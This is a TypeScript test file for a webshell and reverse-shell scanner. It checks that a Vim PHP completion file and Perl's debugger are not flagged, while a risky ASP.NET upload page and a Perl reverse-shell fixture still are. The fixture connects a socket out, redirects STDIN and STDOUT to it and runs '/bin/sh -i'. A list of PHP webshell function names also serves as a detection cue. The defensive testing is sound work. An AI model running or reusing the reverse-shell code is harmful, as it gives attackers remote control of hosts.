import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// False positives found in Debian's /usr/share in session 41, written again by us: Vim's PHP completion (every PHP
// function as a word, beside `<?php` in its patterns) and Perl's debugger (STDIN made a remote session's socket
// thousands of lines from a "/bin/sh").
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

const WORDS = ['php_uname', 'posix_getpwuid', 'disable_functions', 'getmyuid', 'safe_mode', 'move_uploaded_file', 'shell_exec', 'fileperms', 'mysqli_connect', 'getcwd', 'disk_free_space', 'fsockopen', 'passthru', 'open_basedir'];
/** A completion list: each name with its signature, as an editor's PHP support keeps them. */
const completion = (head: string) =>
  `${head}let g:php_builtin = {\n${WORDS.map((w) => `\\ '${w}(': 'string $arg | mixed',`).join('\n')}\n\\ 'chmod(': 'string $filename, int $mode | bool',\n\\ 'unlink(': 'string $filename | bool',\n\\ 'scandir(': 'string $directory | array',\n\\ 'file_put_contents(': 'string $filename, mixed $data | int',\n\\ }\n" read /etc/passwd as in 'uname -a'\n`;
const VIM = completion(`" PHP completion\nlet s:begin = searchpairpos('<?php', '', '?>', 'bWn')\n`);

const perlDebugger = (gap: number) =>
  `package DB;\nsub _handle_sh_command {\n    DB::_db_system( $ENV{SHELL} || "/bin/sh", "-c", $1 );\n}\n${'# filler of the debugger\n'.repeat(gap)}sub _restore {\n    open( STDIN, "<&IN" ) || _db_warn("Can't redirect STDIN");\n}\nsub _remote {\n    my $socket = IO::Socket::INET->new(Timeout => 10, PeerAddr => $remote_port, Proto => 'tcp');\n}\n`;

describe('scan: Debian false positives (session 41)', () => {
  it('a Vim completion file naming the whole toolkit beside "<?php" is not malicious', () => {
    const r = scan(VIM, '/usr/share/vim/vim90/autoload/phpcomplete.vim');
    assert.notEqual(r.verdict, 'malicious', why(r));
    assert.ok(!r.findings.some((f) => f.rule.startsWith('mamori_php_webshell_toolkit')), why(r));
  });
  it('and under other editors\' names and a package manager\'s backup suffix (red team S41)', () => {
    for (const name of ['php.dict', 'php.snippets', 'php.kak', 'php.scm', 'phpcomplete.elc', 'phpcomplete.vim.dpkg-old']) {
      const r = scan(VIM, `/usr/share/editor/${name}`);
      assert.notEqual(r.verdict, 'malicious', `${name}: ${why(r)}`);
    }
  });
  it('the same words behind a PHP tag in a text file an include runs still count', () => {
    const r = scan(completion('<?php\n'), '/srv/www/uploads/notes.txt');
    assert.ok(r.findings.some((f) => f.rule === 'mamori_php_webshell_toolkit'), why(r));
  });
  it('an ASP.NET page saving one upload by its name and another under a listed folder stays suspicious (red team S40B)', () => {
    const page = `<%@ Page Language="C#" %>\n<script runat="server">\nvoid Upload(object s, EventArgs e) {\n  FileUpload1.SaveAs(Server.MapPath("~/uploads/" + FileUpload1.FileName));\n  FileUpload2.SaveAs(category.Value + "\\\\" + FileUpload2.FileName);\n}\n</script>\n<form runat="server"><select runat="server" id="category"><option>a</option></select>\n<asp:FileUpload ID="FileUpload1" runat="server" /><asp:FileUpload ID="FileUpload2" runat="server" /></form>\n`;
    const r = scan(page, '/srv/www/upload.aspx');
    assert.equal(r.verdict, 'suspicious', why(r));
    assert.ok(r.findings.some((f) => f.layers?.includes('form-controls')), why(r));
  });
  it("Perl's debugger, STDIN redirected far from its /bin/sh, is not a reverse shell", () => {
    const r = scan(perlDebugger(400), '/usr/share/perl/5.36.0/perl5db.pl');
    assert.ok(!r.findings.some((f) => f.rule === 'mamori_script_reverse_shell'), why(r));
  });
  it('a Perl connect-back with the shell right after the redirection still is', () => {
    const src = `#!/usr/bin/perl\nuse IO::Socket::INET;\n$s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1]);\n${'# pad\n'.repeat(300)}open(STDIN, "<&", $s); open(STDOUT, ">&", $s);\nexec("/bin/sh -i");\n`;
    const r = scan(src, '/tmp/x.pl');
    assert.ok(r.findings.some((f) => f.rule === 'mamori_script_reverse_shell'), why(r));
    assert.equal(r.verdict, 'malicious', why(r));
  });
});
